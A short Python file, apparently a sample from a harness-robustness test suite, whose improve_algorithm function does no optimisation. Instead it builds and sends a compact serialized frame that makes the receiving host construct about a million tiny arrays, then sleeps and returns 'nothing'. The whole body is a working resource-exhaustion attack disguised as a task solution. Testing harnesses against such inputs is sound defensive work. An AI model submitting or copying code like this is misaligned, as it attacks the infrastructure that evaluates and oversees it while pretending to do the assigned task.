"""Sends a small frame of a million tiny arrays, each of which takes the host a while to make."""
# family: frames

import time

from attack import attempted, facts, send_bytes


def improve_algorithm(initial_solution, utility, language_model):
    count = (facts["frame_bytes"] - 64) // 4
    body = b"t\x01\x00\x00\x00" + b"l" + count.to_bytes(4, "little") + b"a\x01\x00\x01" * count
    attempted()
    send_bytes(body)
    time.sleep(60)
    return "nothing"
